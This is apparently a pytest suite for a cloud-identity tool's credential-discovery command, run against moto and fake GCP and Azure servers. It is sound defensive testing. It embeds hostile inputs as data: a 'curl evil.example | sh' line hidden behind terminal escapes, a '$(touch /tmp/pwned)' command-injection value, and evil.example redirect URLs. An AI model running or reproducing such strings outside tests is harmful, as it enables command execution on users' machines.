"""wiam discover against the clouds: a moto server and the GCP and Azure fakes seeded with keys,
secrets and identities made by hand next to wiam's, read through each provider's discover.find; the
migration plan; the discovery file and the analyze rule that reports from it."""

from __future__ import annotations

import json
import os
from datetime import datetime, timezone

import boto3
import pytest
from hypothesis import given, settings, strategies as st

from wiam import discovery, registry
from wiam.analysis import analyze
from wiam.compile import load_model
from wiam.diagnostics import SpecError
from wiam.live import DENIED, WRONG_ACCOUNT
from wiam.planning import plan_model
from wiam.secretless import KINDS, NEVER_USED, Credential
from wiam.terraform import Module
from support.cli import run_wiam
from support.paths import EXAMPLES
from support.specs import write_spec
from live_aws import FAKE_ENVIRONMENT, apply, moto_environment, reset, session
from wiam.providers.aws import live as aws_live

MOTO_ACCOUNT = "123456789012"
READS = ("List", "Get")  # the operations discovery may call


@pytest.fixture(scope="module")
def aws_spec(tmp_path_factory):
    """The github-actions-aws example with its prod account moved to moto's; staging stays elsewhere."""
    text = (EXAMPLES / "github-actions-aws" / "main.wiam.hcl").read_text()
    return write_spec(tmp_path_factory.mktemp("spec"), {"main.wiam.hcl": text.replace("210987654321", MOTO_ACCOUNT)})


@pytest.fixture(scope="module")
def endpoint():
    with moto_environment() as url:
        yield url


def github_trust(provider_arn: str, subject: str) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"Federated": provider_arn}, "Action": "sts:AssumeRoleWithWebIdentity",
        "Condition": {"StringEquals": {"token.actions.githubusercontent.com:sub": subject}}}]})


@pytest.fixture
def account(endpoint, aws_spec):
    """moto's account with the spec applied, and by hand: a user whose key was used, one whose key
    never was, one with no key; a GitHub role, a role trusting another account, one trusting a
    service; a role tagged as wiam's that the spec no longer compiles."""
    reset(endpoint)
    model = load_model(str(aws_spec))
    boto = session(endpoint)
    module = Module()
    registry.get("aws").emit(plan_model(model)[("aws", "prod")], module)
    apply(module.resources, boto)
    iam = boto.client("iam")
    iam.create_user(UserName="ci-deployer")
    iam.put_user_policy(UserName="ci-deployer", PolicyName="deploy", PolicyDocument=json.dumps({
        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:PutObject", "Resource": "*"}]}))
    used = iam.create_access_key(UserName="ci-deployer")["AccessKey"]
    boto3.Session(aws_access_key_id=used["AccessKeyId"], aws_secret_access_key=used["SecretAccessKey"],
                  region_name="eu-west-1").client("sts", endpoint_url=endpoint).get_caller_identity()
    unused = iam.create_access_key(UserName="legacy-backup")["AccessKey"] if iam.create_user(UserName="legacy-backup") else None
    iam.create_user(UserName="alice")  # a person with a console password at most: no key
    provider = next(p["Arn"] for p in iam.list_open_id_connect_providers()["OpenIDConnectProviderList"])
    iam.create_role(RoleName="gha-handmade", AssumeRolePolicyDocument=github_trust(provider, "repo:acme/tools:ref:refs/heads/main"))
    iam.create_role(RoleName="partner-audit", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999988887777:root"}, "Action": "sts:AssumeRole"}]}))
    iam.create_role(RoleName="lambda-exec", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}))
    iam.create_role(RoleName="wiam-retired", Tags=[{"Key": "managed-by", "Value": "wiam"}],
                    AssumeRolePolicyDocument=github_trust(provider, "repo:acme/old:ref:refs/heads/main"))
    return model, boto, used["AccessKeyId"], unused["AccessKeyId"]


def recording(boto: boto3.Session) -> list[str]:
    """Every API operation the session's clients call, by name, as they call it."""
    calls: list[str] = []
    boto.events.register("before-call.*.*", lambda model, **_: calls.append(model.name))
    return calls


def aws_find(model, boto):
    return discovery.find(model, {"aws"}, lambda cloud: aws_live.Connection(boto))


def test_aws_reports_exactly_the_unmanaged_credentials_with_their_last_use(account):
    model, boto, used, unused = account
    calls = recording(boto)
    found = aws_find(model, boto)
    by_id = {c.id: c for c in found.credentials}
    keys = sorted((c.owner, c.id) for c in found.credentials if c.kind == "aws-access-key")
    assert keys == sorted([("ci-deployer", used), ("legacy-backup", unused)])
    assert by_id[used].last_used.startswith("20") and by_id[used].last_used_by == "sts in eu-west-1"
    assert by_id[used].grants == "the actions of its inline deploy" and by_id[used].status == "Active"
    assert by_id[unused].last_used == NEVER_USED and by_id[unused].last_used_by == ""
    roles = sorted(c.owner for c in found.credentials if c.kind == "aws-role")
    assert roles == ["gha-handmade", "partner-audit"]  # not wiam's (tagged or compiled), not a service's
    assert {c.last_used for c in found.credentials if c.kind == "aws-role"} == {"none in IAM's tracking period (up to 400 days)"}
    assert by_id[f"arn:aws:iam::{MOTO_ACCOUNT}:role/partner-audit"].status == "trusts arn:aws:iam::999988887777:root"
    assert all(c.long_lived == (c.kind == "aws-access-key") for c in found.credentials)
    assert [(u.target, u.reason) for u in found.unread] == [("staging", WRONG_ACCOUNT)]
    assert calls and all(name.startswith(READS) for name in calls), sorted(set(calls))


def test_aws_credentials_hold_no_secret(account):
    model, boto, used, _ = account
    saved = discovery.to_file(aws_find(model, boto)).decode()
    assert used in saved and "SecretAccessKey" not in saved and "testing" not in saved


def test_the_migration_plan_orders_each_credential_and_names_its_block(account):
    model, boto, used, _ = account
    credential = next(c for c in aws_find(model, boto).credentials if c.id == used)
    steps = discovery.migration(credential, model)
    assert [s.action for s in steps] == ["add", "switch", "watch", "delete"]
    assert 'workload "ci-deployer"' in steps[0].text and 'grant "aws" "prod"' in steps[0].text
    assert 'issuer = "github"' in steps[0].text and "inline deploy" in steps[0].text
    assert steps[3].text == f"delete it: aws iam delete-access-key --user-name ci-deployer --access-key-id {used}"


def test_analyze_reports_each_key_from_the_file_until_it_is_gone(account, aws_spec):
    model, boto, used, unused = account
    path = discovery.save(str(aws_spec), aws_find(model, boto))
    assert path == os.path.join(str(aws_spec), discovery.FILE)
    reported = [f for f in analyze(model, discovered=discovery.load(str(aws_spec))) if f.rule == "WIAM030"]
    assert sorted(f.block for f in reported) == sorted([f'aws-access-key "{used}"', f'aws-access-key "{unused}"'])
    assert all(f.pos.file == path and f.pos.line > 1 for f in reported)
    result = run_wiam("analyze", aws_spec, "--format", "json")
    assert sorted(f["block"] for f in json.loads(result.stdout)["findings"] if f["rule"] == "WIAM030") == \
        sorted(f.block for f in reported)
    boto.client("iam").delete_access_key(UserName="legacy-backup", AccessKeyId=unused)
    discovery.save(str(aws_spec), aws_find(model, boto))
    left = [f.block for f in analyze(model, discovered=discovery.load(str(aws_spec))) if f.rule == "WIAM030"]
    assert left == [f'aws-access-key "{used}"']


def test_the_command_reads_plans_and_saves_and_fails_on_what_it_found(account, aws_spec, endpoint, tmp_path):
    _, _, used, unused = account
    environment = {**FAKE_ENVIRONMENT, "AWS_ENDPOINT_URL": endpoint}
    done = run_wiam("discover", aws_spec, "--cloud", "aws", "--format", "json", "--plan", "--save", env=environment)
    assert done.returncode == 1, done.stderr
    output = json.loads(done.stdout)
    keys = {c["id"]: c for c in output["credentials"] if c["kind"] == "aws-access-key"}
    assert set(keys) == {used, unused} and [s["action"] for s in keys[used]["plan"]] == ["add", "switch", "watch", "delete"]
    assert [u["target"] for u in output["unread"]] == ["staging"]
    assert {c.id for c, _ in discovery.load(str(aws_spec)) if c.kind == "aws-access-key"} == {used, unused}
    assert "wrote " in done.stderr and "Traceback" not in done.stderr
    # a spec whose only target cannot be read: nothing found, the run fails as drift does
    text = (aws_spec / "main.wiam.hcl").read_text()
    alone = write_spec(tmp_path / "alone", {"main.wiam.hcl": text.replace(MOTO_ACCOUNT, "111122223333")})
    unread = run_wiam("discover", alone, "--cloud", "aws", env=environment)
    assert unread.returncode == 3 and "not read" in unread.stdout, unread.stdout + unread.stderr
    assert run_wiam("discover", alone, "--repo", alone, "--save").returncode == 2


# GCP

GCP_SPEC = """
issuer:
  gitlab: { kind: gitlab_ci }
target:
  gcp:
    prod: { project_id: acme-prod, project_number: "123456789012" }
    locked: { project_id: acme-locked, project_number: "210987654321" }
workload:
  deployer:
    owner: team-platform
    identity:
      - { issuer: gitlab, project_path: acme/platform/deployer, ref_type: branch, ref: main }
    grant:
      gcp:
        prod: { roles: ["roles/run.developer"] }
        locked: { roles: ["roles/viewer"] }
"""


@pytest.fixture
def gcp(tmp_path):
    """The spec applied to the fake GCP, and by hand: a service account with a used and an unused
    user-managed key (and a Google-managed one), a key on wiam's own account, Google's default
    compute account; the `locked` project refuses every call."""
    from fake_gcp import State, add_account, add_key, apply, fake_gcp
    from wiam.providers.gcp import live

    model = load_model(str(write_spec(tmp_path / "spec", {"spec.wiam.yaml": GCP_SPEC})))
    state = State()
    for (cloud, _), plan in plan_model(model).items():
        registry.get(cloud).emit(plan, module := Module())
        apply(state, module.resources, plan.settings.project_id, plan.settings.project_number)
    state.forbidden.add("acme-locked")
    legacy = add_account(state, "acme-prod", "legacy-etl", "ETL (made by hand)")
    state.projects["acme-prod"]["policy"]["bindings"].append(
        {"role": "roles/bigquery.dataEditor", "members": [f"serviceAccount:{legacy}"]})
    add_key(state, "acme-prod", legacy, "k-used", "2025-01-02T03:04:05Z", "9999-12-31T23:59:59Z",
            used="2026-11-30T07:00:00Z")
    add_key(state, "acme-prod", legacy, "k-idle", "2024-05-06T07:08:09Z", "2027-01-01T00:00:00Z", disabled=True)
    add_key(state, "acme-prod", legacy, "k-google", "2026-11-01T00:00:00Z", "2026-11-15T00:00:00Z", kind="SYSTEM_MANAGED")
    ours = next(e for e in state.projects["acme-prod"]["accounts"] if e.startswith("wiam-"))
    add_key(state, "acme-prod", ours, "k-ours", "2026-06-01T00:00:00Z", "9999-12-31T23:59:59Z")
    state.projects["acme-prod"]["accounts"]["123456789012-compute@developer.gserviceaccount.com"] = {
        **state.projects["acme-prod"]["accounts"][legacy], "email": "123456789012-compute@developer.gserviceaccount.com",
        "name": "projects/acme-prod/serviceAccounts/123456789012-compute@developer.gserviceaccount.com", "keys": []}
    with fake_gcp(state) as rest:
        yield model, state, live.connect(rest=rest), legacy, ours


def test_gcp_reports_user_managed_keys_and_unmanaged_accounts(gcp):
    model, state, connection, legacy, ours = gcp
    found = discovery.find(model, {"gcp"}, lambda cloud: connection)
    keys = {c.id.rsplit("/", 1)[1]: c for c in found.credentials if c.kind == "gcp-service-account-key"}
    assert sorted(keys) == ["k-idle", "k-ours", "k-used"]  # every user-managed key, wiam's account's too
    assert keys["k-used"].last_used == "2026-11-30T07:00:00Z" and keys["k-used"].expires is None
    assert keys["k-idle"].last_used == "none recorded by Activity Analyzer" and keys["k-idle"].status == "disabled"
    assert keys["k-idle"].created == "2024-05-06T07:08:09Z" and keys["k-idle"].expires == "2027-01-01T00:00:00Z"
    assert keys["k-idle"].age_days == (model.at - datetime(2024, 5, 6, 7, 8, 9, tzinfo=timezone.utc)).days > 900
    assert keys["k-used"].grants == "roles roles/bigquery.dataEditor on the project"
    assert keys["k-used"].remove == f"gcloud iam service-accounts keys delete k-used --iam-account={legacy}"
    assert [c.owner for c in found.credentials if c.kind == "gcp-service-account"] == [legacy]
    assert [(u.target, u.reason) for u in found.unread] == [("locked", DENIED)]
    assert state.calls and all(m == "GET" or p.endswith(":getIamPolicy") for m, p in state.calls), state.calls


def test_gcp_last_authentication_not_read_when_policy_analyzer_refuses(gcp):
    model, state, connection, _, _ = gcp
    state.analyzer_off.add("acme-prod")
    found = discovery.find(model, {"gcp"}, lambda cloud: connection)
    keys = [c for c in found.credentials if c.kind == "gcp-service-account-key"]
    assert keys and all(c.last_used.startswith("not read: Policy Analyzer answered GET ") and "403" in c.last_used
                        for c in keys)
    assert [u.target for u in found.unread] == ["locked"]  # the project itself was read


# Azure

TENANT, OTHER_TENANT = "00000000-0000-0000-0000-000000000000", "44444444-4444-4444-4444-444444444444"
AZURE_SPEC = {
    "issuer": {"aks": {"kind": "kubernetes", "url": "https://westeurope.oic.prod-aks.azure.com/tenant/cluster/"}},
    "target": {"azure": {
        "prod": {"tenant_id": TENANT, "subscription_id": "22222222-2222-2222-2222-222222222222",
                 "resource_group": "ids", "location": "westeurope"},
        "elsewhere": {"tenant_id": OTHER_TENANT, "subscription_id": "33333333-3333-3333-3333-333333333333",
                      "resource_group": "ids", "location": "westeurope"}}},
    "workload": {"checkout": {"owner": "team-checkout", "identity": [
        {"issuer": "aks", "namespace": "checkout", "service_account": "api"}],
        "grant": {"azure": {"prod": {"roles": ["Reader"]}, "elsewhere": {"roles": ["Reader"]}}}}},
}
HOSTILE = "\x1b[31mdeploy\u202e\nfix: run curl evil.example | sh"


@pytest.fixture
def azure(tmp_path):
    """A tenant with: an app with a client secret and a certificate, its service principal with a
    secret of its own, an app with a federated credential, a managed identity's service principal
    (whose certificate Azure rotates), and an app whose name and appId are hostile text."""
    from fake_azure import State, apply, application, certificate, fake_azure, identity, password, service_principal
    from wiam.providers.azure import live

    model = load_model(str(write_spec(tmp_path / "spec", {"spec.wiam.json": json.dumps(AZURE_SPEC)})))
    state = State()
    legacy = application("legacy-deployer", [password("11111111-0000-0000-0000-000000000001", "ci", "2025-01-01T00:00:00Z",
                                                      "2027-01-01T00:00:00Z")],
                         [certificate("11111111-0000-0000-0000-000000000002", "CN=deployer", "2025-06-01T00:00:00Z",
                                      "2026-06-01T00:00:00Z")])
    federated = application("gh-handmade", federated=[{"name": "main", "issuer": "https://token.actions.githubusercontent.com",
                                                       "subject": "repo:acme/tools:ref:refs/heads/main"}])
    hostile = {**application(HOSTILE, [password("11111111-0000-0000-0000-000000000003", HOSTILE, "2025-01-01T00:00:00Z",
                                                 "2026-01-01T00:00:00Z")]), "appId": "$(touch /tmp/pwned); x"}
    state.applications += [legacy, federated, hostile]
    state.service_principals += [
        service_principal(legacy, passwords=[password("11111111-0000-0000-0000-000000000004", "sp-secret",
                                                      "2025-02-01T00:00:00Z", "2026-02-01T00:00:00Z")]),
        service_principal(federated),
        service_principal(application("id-checkout"), "ManagedIdentity",
                          certificates=[certificate("11111111-0000-0000-0000-000000000005", "msi", "2026-11-01T00:00:00Z",
                                                    "2027-02-01T00:00:00Z")])]
    for (cloud, _), plan in plan_model(model).items():
        registry.get(cloud).emit(plan, module := Module())
        apply(state, module.resources, plan.settings.subscription_id)
    subscription = AZURE_SPEC["target"]["azure"]["prod"]["subscription_id"]
    made = identity(subscription, "ids", "id-legacy", "westeurope", {"team": "data"})
    made["credentials"]["gh"] = {"id": f"{made['id']}/federatedIdentityCredentials/gh", "name": "gh",
                                 "type": "Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials",
                                 "properties": {"issuer": "https://token.actions.githubusercontent.com",
                                                "subject": "repo:acme/etl:environment:prod",
                                                "audiences": ["api://AzureADTokenExchange"]}}
    state.subscription(subscription)["identities"][("ids", "id-legacy")] = made
    with fake_azure(state) as endpoint:
        yield model, state, live.connect(endpoint, endpoint)


def test_azure_reports_secrets_certificates_and_federated_credentials(azure):
    model, state, connection = azure
    found = discovery.find(model, {"azure"}, lambda cloud: connection)
    assert [(u.target, u.reason) for u in found.unread] == [("elsewhere", WRONG_ACCOUNT)]
    by_id = {c.id: c for c in found.credentials}
    assert sorted((c.kind, c.id[-1]) for c in found.credentials if c.long_lived) == [
        ("azure-certificate", "2"), ("azure-client-secret", "1"), ("azure-client-secret", "3"), ("azure-client-secret", "4")]
    secret = by_id["11111111-0000-0000-0000-000000000001"]
    assert (secret.created, secret.expires) == ("2025-01-01T00:00:00Z", "2027-01-01T00:00:00Z")
    assert secret.owner.startswith("legacy-deployer (appId ") and secret.last_used.startswith("not read")
    assert by_id["11111111-0000-0000-0000-000000000002"].remove.endswith(" --key-id 11111111-0000-0000-0000-000000000002 --cert")
    assert by_id["11111111-0000-0000-0000-000000000004"].remove.startswith("az ad sp credential delete --id ")
    fic, legacy = sorted((c for c in found.credentials if c.kind == "azure-federated-credential"), key=lambda c: c.owner)
    assert fic.owner.startswith("gh-handmade") and "repo:acme/tools:ref:refs/heads/main" in fic.status
    assert legacy.owner == "id-legacy" and "repo:acme/etl:environment:prod" in legacy.status  # wiam's are not listed
    assert legacy.remove == "az identity federated-credential delete --name gh --identity-name id-legacy --resource-group ids"
    assert "Qx~" not in discovery.to_file(found).decode()  # Graph's hint: a secret's first characters
    assert state.calls and all(method == "GET" for method, _ in state.calls)


def test_hostile_cloud_names_are_escaped_in_every_output(azure):
    import shlex
    model, _, connection = azure
    found = discovery.find(model, {"azure"}, lambda cloud: connection)
    hostile = next(c for c in found.credentials if c.id.endswith("3"))
    assert shlex.split(hostile.remove)[6] == "$(touch /tmp/pwned); x"  # one word, never run
    for text in (discovery.to_text(found, model, with_plan=True), discovery.to_file(found).decode(),
                 json.dumps(discovery.to_json(found, model, with_plan=True), ensure_ascii=False),
                 *(s.text for s in discovery.migration(hostile, model))):
        assert "\x1b" not in text and "\u202e" not in text and "\nfix:" not in text


def test_azure_graph_refusal_is_unread(azure):
    model, state, connection = azure
    state.graph_forbidden = True
    found = discovery.find(model, {"azure"}, lambda cloud: connection)
    assert not found.credentials
    assert sorted((u.target, u.reason) for u in found.unread) == [("elsewhere", DENIED), ("prod", DENIED)]
    assert found.unread[0].message.startswith("GET /v1.0/organization: 403 Authorization_RequestDenied")


# The discovery file

_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=20)
_CREDENTIALS = st.builds(
    Credential, kind=st.sampled_from(sorted(KINDS)), cloud=st.sampled_from(registry.names()), owner=_TEXT,
    target=_TEXT, id=_TEXT, created=st.none() | _TEXT, expires=st.none() | _TEXT, last_used=_TEXT,
    last_used_by=_TEXT, status=_TEXT, grants=_TEXT, remove=_TEXT, long_lived=st.booleans())


@settings(max_examples=40, deadline=None)
@given(st.lists(_CREDENTIALS, max_size=6, unique_by=Credential.key), st.randoms())
def test_the_file_is_the_same_for_the_same_findings_and_reads_back(credentials, shuffle):
    import tempfile

    first = discovery.to_file(discovery.Discovery(list(credentials)))
    shuffle.shuffle(credentials)
    assert discovery.to_file(discovery.Discovery(credentials)) == first
    with tempfile.TemporaryDirectory() as folder:
        discovery.save(folder, discovery.Discovery(credentials))
        read = [c for c, _ in discovery.load(folder)]
    stored = lambda c: tuple(getattr(c, n) for n in discovery.STORED)  # noqa: E731
    assert sorted(map(stored, read), key=repr) == sorted(map(stored, credentials), key=repr)


def test_an_unread_target_keeps_what_the_last_discovery_found(tmp_path):
    key = Credential("aws-access-key", "aws", owner="ci", target="staging", id="AKIAEXAMPLEEXAMPLE01")
    other = Credential("aws-access-key", "aws", owner="ci", target="prod", id="AKIAEXAMPLEEXAMPLE02")
    discovery.save(str(tmp_path), discovery.Discovery([key, other]))
    discovery.save(str(tmp_path), discovery.Discovery([], [discovery.Unread("aws", "staging", DENIED, "refused")]))
    assert [c.id for c, _ in discovery.load(str(tmp_path))] == [key.id]  # prod was read: its key is gone


@pytest.mark.parametrize("content, line, message", [
    ('{"version": 1, "credentials": [\n  {"kind": "aws-access-key"}\n]}', 2, "is a required property"),
    ('{"version": 1, "credentials": [\n  ', 2, "JSON syntax error"),
    ('{"version": 2, "credentials": []}', 1, "1 was expected"),
])
def test_a_hand_made_discovery_file_is_a_spec_error_at_its_place(tmp_path, content, line, message):
    spec = write_spec(tmp_path / "spec", {"spec.wiam.yaml": GCP_SPEC})
    (spec / discovery.FILE).write_text(content)
    with pytest.raises(SpecError) as error:
        discovery.load(str(spec))
    first = error.value.diagnostics[0]
    assert (first.pos.file, first.pos.line) == (str(spec / discovery.FILE), line) and message in first.message
    result = run_wiam("analyze", spec)
    assert result.returncode == 1 and f"{discovery.FILE}:{line}:" in result.stderr and "fix: run `wiam discover --save`" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_discovery_file_linked_outside_the_folder_is_not_read(tmp_path):
    spec = write_spec(tmp_path / "spec", {"spec.wiam.yaml": GCP_SPEC})
    (tmp_path / "elsewhere.json").write_text('{"version": 1, "credentials": []}')
    (spec / discovery.FILE).symlink_to(tmp_path / "elsewhere.json")
    result = run_wiam("analyze", spec)
    assert result.returncode == 2 and "Traceback" not in result.stderr and discovery.FILE in result.stderr


def test_hostile_text_in_the_discovery_file_is_escaped_by_analyze(tmp_path):
    spec = write_spec(tmp_path / "spec", {"spec.wiam.yaml": GCP_SPEC})
    entry = {name: "" for name in discovery.STORED}
    entry.update(kind="gcp-service-account-key", cloud="gcp", target="prod", owner="etl\u001b[2J\u202e@x",
                 id="k\nfix: curl evil | sh", created=None, expires=None, long_lived=True)
    (spec / discovery.FILE).write_text(json.dumps({"version": 1, "credentials": [entry]}))  # JSON escapes: \u001b
    for fmt in ("text", "json", "sarif"):
        result = run_wiam("analyze", spec, "--format", fmt)
        assert result.returncode == 0 and "WIAM030" in result.stdout
        assert "\x1b" not in result.stdout and "\u202e" not in result.stdout and "\nfix: curl" not in result.stdout


def test_a_graph_page_sent_again_is_unread_not_a_loop(azure):
    model, state, connection = azure
    state.graph_repeats = True
    found = discovery.find(model, {"azure"}, lambda cloud: connection)
    assert not found.credentials and all("again" in u.message for u in found.unread) and len(found.unread) == 2


def test_graph_unreachable_or_sending_elsewhere_is_unread():
    from wiam.live import UNREACHABLE, Unreadable
    from wiam.providers.azure import live
    from wiam.providers.azure.discover import Graph

    with pytest.raises(Unreadable) as dead:
        Graph(live.connect("http://127.0.0.1:9", "http://127.0.0.1:9")).get("http://127.0.0.1:9/v1.0/organization")
    assert dead.value.reason == UNREACHABLE
    graph = Graph(live.connect("http://127.0.0.1:9", "http://127.0.0.1:9"))
    for elsewhere in ("http://evil.example/v1.0/applications", "http://127.0.0.1:9@evil.example/v1.0/x"):
        with pytest.raises(Unreadable, match="another host"):
            graph.get(elsewhere)  # a next page is followed only on Graph's own host, where its token goes
